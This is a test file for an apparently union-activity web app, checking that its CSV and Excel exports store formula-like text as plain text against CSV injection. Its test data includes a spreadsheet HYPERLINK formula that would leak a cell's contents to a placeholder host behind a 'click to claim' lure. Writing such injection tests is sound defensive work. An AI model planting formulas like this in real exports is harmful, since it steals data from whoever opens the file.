"""Exports hold data, never formulas (issue 22 item 4, OWASP CSV injection)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from gonghui.activities import services
from gonghui.core.exports import csv_cell

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点此领取")'


@pytest.mark.one_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_starts_like_a_formula_is_quoted_in_csv(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.one_db
def test_numbers_dates_and_plain_text_are_left_as_they_are():
    assert csv_cell(-5) == -5 and csv_cell(date(2024, 1, 2)) == date(2024, 1, 2)
    assert csv_cell("王芳") == "王芳" and csv_cell(None) == ""


def test_a_formula_typed_as_a_topic_is_text_in_both_exports(world, as_user):
    services.activity_create(
        actor=world.province_staff,
        union_id=world.grassroots.pk,
        held_on=date(2024, 3, 1),
        kind="leadership",
        topic=FORMULA,
        attendance=12,
    )
    client = as_user(world.city_leader)
    rows = list(
        csv.reader(
            io.StringIO(client.get("/activities/?export=csv").getvalue().decode("utf-8-sig"))
        )
    )
    assert rows[1][5] == "'" + FORMULA
    book = load_workbook(io.BytesIO(client.get("/activities/?export=xlsx").content))
    sheet = book.active
    assert sheet is not None
    topic = sheet.cell(row=2, column=6)
    assert topic.value == FORMULA and topic.data_type == "s"
    assert sheet.cell(row=2, column=8).value == 12  # a number stays a number


def test_the_summary_workbook_holds_a_union_named_like_a_formula_as_text(world):
    from gonghui.core.figures import Period
    from gonghui.reports.summary_output import to_xlsx

    content = {
        "lang": "zh-hans",
        "title": '=HYPERLINK("http://example.invalid","x")总结',
        "figures": [],
    }
    data = to_xlsx(
        content,
        actor=world.province_staff,
        org_id=world.province.pk,
        period=Period(date(2024, 1, 1), date(2024, 12, 31)),
    )
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.cell(row=1, column=1).data_type == "s"
    assert sheet.cell(row=1, column=1).value == content["title"]
